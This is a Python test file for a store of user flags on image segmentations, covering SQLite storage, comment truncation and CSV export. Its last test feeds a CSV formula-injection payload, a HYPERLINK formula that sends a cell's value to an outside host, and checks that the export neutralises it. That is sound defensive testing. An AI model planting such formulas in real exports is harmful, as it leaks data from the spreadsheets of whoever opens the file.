"""Flags in SQLite: bounded fields, one bad row never breaks the next, CSV export."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

from spinalsam.flags import FlagStore, export_csv, main
from spinalsam.limits import Budget


def test_long_comment_is_truncated_and_later_flags_still_work(tmp_path: Path) -> None:
    store = FlagStore(tmp_path, Budget(max_flag_comment_chars=100))
    saved = store.add("wrong", "x" * 200_000, {"image": "a"}, None)
    assert saved.truncated
    assert not store.add("good", "fine", {"image": "b"}, b"\x89PNG").truncated
    rows = store.rows()
    assert [len(r["comment"]) for r in rows] == [100, 4]
    assert [r["has_mask"] for r in rows] == [0, 1]
    assert store.path.stat().st_size < 1 << 20


def test_database_is_one_file_in_wal_mode(tmp_path: Path) -> None:
    store = FlagStore(tmp_path)
    with sqlite3.connect(store.path) as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_csv_export_reads_back_with_default_csv_limits(tmp_path: Path) -> None:
    store = FlagStore(tmp_path / "db")
    store.add("needs correction", "left pedicle", {"prompts": [[1, 2]]}, b"png-bytes")
    store.add("good", "y" * 10_000, {"image": "c"}, None)
    out = export_csv(store, tmp_path / "export" / "flags.csv")
    with out.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["rating"] for r in rows] == ["needs correction", "good"]
    assert (out.parent / rows[0]["mask_file"]).read_bytes() == b"png-bytes"
    assert rows[1]["mask_file"] == ""


def test_export_command(tmp_path: Path) -> None:
    FlagStore(tmp_path).add("good", "ok", {}, None)
    assert main([str(tmp_path), str(tmp_path / "out.csv")]) == 0
    assert "ok" in (tmp_path / "out.csv").read_text()


def test_csv_export_never_hands_a_formula_to_the_spreadsheet(tmp_path: Path) -> None:
    """Comments come from any public user; the reviewer opens the CSV in a spreadsheet."""
    store = FlagStore(tmp_path / "db")
    store.add("wrong", '=HYPERLINK("http://host/?"&A1,"open")', {"image": "a"}, None)
    with export_csv(store, tmp_path / "flags.csv").open(newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["comment"] == '\'=HYPERLINK("http://host/?"&A1,"open")'
